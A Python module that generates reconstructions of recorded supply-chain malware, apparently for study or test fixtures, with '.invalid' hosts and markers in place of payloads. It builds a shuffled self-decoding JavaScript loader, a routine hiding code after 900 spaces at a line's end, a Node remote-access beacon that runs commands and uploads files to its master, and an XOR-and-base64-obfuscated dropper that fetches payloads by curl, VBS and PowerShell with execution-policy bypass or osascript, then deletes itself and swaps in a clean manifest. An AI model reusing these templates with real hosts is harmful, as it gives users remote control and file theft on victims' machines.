"""Forms in which the record has payloads hidden: shuffled text behind white space, and words turned by XOR and reversed base64.

Written by us from what is recorded of the form; hosts do not exist, and a marker is in place of each payload.
"""

import base64
import json
import random

_STEP_A, _STEP_B, _TURN_A, _TURN_B, _MOST = 211, 389, 15_107, 11_939, 6_114_523
_WHITE = " " * 900


def shuffled(text: str, seed: int) -> str:
    """The text with its letters changed round, so that the loader's own rounds bring it back."""
    letters, swaps, key = list(text), [], seed
    size = len(letters)
    for at in range(size):
        one = key * (at + _STEP_A) + key % _TURN_A
        two = key * (at + _STEP_B) + key % _TURN_B
        swaps.append((one % size, two % size))
        key = (one + two) % _MOST
    for left, right in reversed(swaps):
        letters[left], letters[right] = letters[right], letters[left]
    return "".join(letters)


def shuffled_loader(program: str, *, seed: int = 2_208_431) -> str:
    """One line that brings a shuffled program back and runs it: the word `constructor` is shuffled, too, and never written.

    The program finds `require` as `global.r`, as the recorded one did.
    """
    pick = random.Random(seed)
    word = "constructor" + "".join(pick.choices("abdefghijklmpqvwxyz", k=25))
    rounds = (
        f"function d(s){{var k={seed},l=s.length,c=[],i;for(i=0;i<l;i++){{c[i]=s.charAt(i)}}"
        f"for(i=0;i<l;i++){{var a=k*(i+{_STEP_A})+(k%{_TURN_A}),b=k*(i+{_STEP_B})+(k%{_TURN_B}),"
        f"x=a%l,y=b%l,z=c[x];c[x]=c[y];c[y]=z;k=(a+b)%{_MOST}}}return c.join('')}}"
    )
    return (
        f"global['_V']='marker';global['r']=require;(function(){{var e='',n=342-331;{rounds}"
        f"var w=d({json.dumps(shuffled(word, seed))}).substr(0,n);var f=d[w];"
        f"var p=f(e,d({json.dumps(shuffled(program, seed))}));p(1187)}})();"
    )


def behind_white_space(text: bytes, line: str) -> bytes:
    """A file whose last line goes on with another program, far to the right."""
    return text.rstrip(b"\n") + (_WHITE + line + "\n").encode()


def remote_access() -> str:
    """A program that tells its master who it is, and runs what that answers: the recorded commands, and no master."""
    return (
        "var cp=global.r('child_process'),os=global.r('os'),fs=global.r('fs'),path=global.r('path'),net=global.r('http');"
        "var id=os.hostname()+'$'+os.userInfo().username;"
        "function beat(){net.get('http://sink.invalid:3306/marker?id='+encodeURIComponent(id),function(r){var d='';"
        "r.on('data',function(c){d+=c});r.on('end',function(){var m;try{m=JSON.parse(d)}catch(e){return}"
        "if(m.code==='ss_info')return;if(m.cmd.startsWith('cd '))process.chdir(m.cmd.slice(3));"
        "else if(m.cmd.startsWith('ss_upf '))fs.createReadStream(m.cmd.slice(7)).pipe(net.request({host:'sink.invalid',"
        "port:27017,path:'/u/f',method:'POST'}));else cp.exec(m.cmd,function(e,o){net.get('http://sink.invalid:3306/o?'+o)})})})"
        ".on('error',function(){})}setInterval(beat,60000).unref();"
    )


_KEY, _CONSTANT = "marker_2026", 93


def turned(word: str) -> str:
    """A word as the dropper has it: XOR with a key and a constant, base64, its end first, `_` for `=`."""
    mixed = bytes(ord(one) ^ ord(_KEY[at % len(_KEY)]) ^ _CONSTANT for at, one in enumerate(word))
    return base64.b64encode(mixed).decode()[::-1].replace("=", "_")


_MAC = (
    'do shell script "curl -o /Library/Caches/com.marker -d packages.invalid/product0 -s ADDRESS && chmod 770 '
    '/Library/Caches/com.marker && /bin/zsh -c \\"/Library/Caches/com.marker ADDRESS &\\" &> /dev/null"'
)
_WINDOWS = (
    'Set o = CreateObject("WScript.Shell")\r\no.Run "cmd.exe /c curl -s -X POST -d ""packages.invalid/product1"" ADDRESS > PLACE.ps1 & '
    'PROGRAM -w hidden -ep bypass -file PLACE.ps1 ADDRESS & del PLACE.ps1 /f", 0, False\r\n'
)
_LINUX = "curl -o /tmp/marker.py -d packages.invalid/product2 -s ADDRESS && nohup python3 /tmp/marker.py ADDRESS > /dev/null 2>&1 &"
_WORDS = (
    "child_process",
    "os",
    "fs",
    "http://sink.invalid:8000/",
    "win32",
    "darwin",
    _WINDOWS,
    _MAC,
    _LINUX,
    "package.json",
    "package.md",
    "where powershell",
    "ADDRESS",
)
_DROPPER = """
const words = WORDS;
const key = KEY;
const mix = (text, by) => text.split("").map((one, at) => String.fromCharCode(one.charCodeAt(0) ^ by.charCodeAt(at % by.length) ^ CONSTANT)).join("");
const word = (at) => mix(Buffer.from(words[at].split("").reverse().join("").replaceAll("_", "="), "base64").toString("latin1"), key);
const entry = (id) => {
  try {
    const { exec, execSync } = require(word(0));
    const os = require(word(1)), fs = require(word(2));
    const address = word(3) + id, place = os.tmpdir() + "/" + id;
    if (os.platform() === word(4)) {
      const found = execSync(word(11)).toString().trim();
      const program = process.env.PROGRAMDATA + "\\\\wt.exe";
      if (found && !fs.existsSync(program)) { fs.copyFileSync(found, program); }
      fs.writeFileSync(place + ".vbs", word(6).replaceAll(word(12), address).replaceAll("PLACE", place).replaceAll("PROGRAM", program));
      exec('cscript "' + place + '.vbs" //nologo && del "' + place + '.vbs" /f');
    } else if (os.platform() === word(5)) {
      fs.writeFileSync(place, word(7).replaceAll(word(12), address));
      exec('nohup osascript "' + place + '" > /dev/null 2>&1 &');
    } else {
      exec(word(8).replaceAll(word(12), address));
    }
    fs.unlink(__filename, () => {});
    fs.unlink(word(9), () => {});
    fs.rename(word(10), word(9), () => {});
  } catch (error) {}
};
entry("marker");
"""


def dropper() -> str:
    """A script that fetches a program for the system and starts it, then removes itself and puts a clean manifest in place."""
    hidden = json.dumps([turned(word) for word in _WORDS])
    return (
        _DROPPER.replace("WORDS", hidden, 1)
        .replace("KEY", json.dumps(_KEY), 1)
        .replace("CONSTANT", str(_CONSTANT))
    )
